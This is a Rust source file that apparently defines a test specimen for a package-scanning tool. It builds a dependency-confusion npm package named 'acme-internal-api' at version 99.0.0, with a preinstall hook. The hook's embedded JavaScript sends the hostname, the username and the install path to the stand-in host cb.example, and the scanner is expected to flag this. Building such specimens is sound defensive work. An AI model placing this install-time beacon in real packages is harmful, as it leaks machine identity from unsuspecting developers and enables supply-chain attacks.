//! Dependency confusion that proves itself: an npm `preinstall` that tells who and where it is, and takes
//! nothing else.
//!
//! Must be found: the host's own name leaves at install.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const https = require('https');
const os = require('os');
const query = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username, d: __dirname, p: 'acme-internal-api' });
https.get('https://cb.example/?' + query, (answer) => answer.resume()).on('error', () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("acme-internal-api", "99.0.0")
        .file("index.js", INDEX_JS)
        .script("preinstall", "node index.js");
    package.specimen("npm-beacon", Expect::suspicious(&["host-identity-sent"]))
}
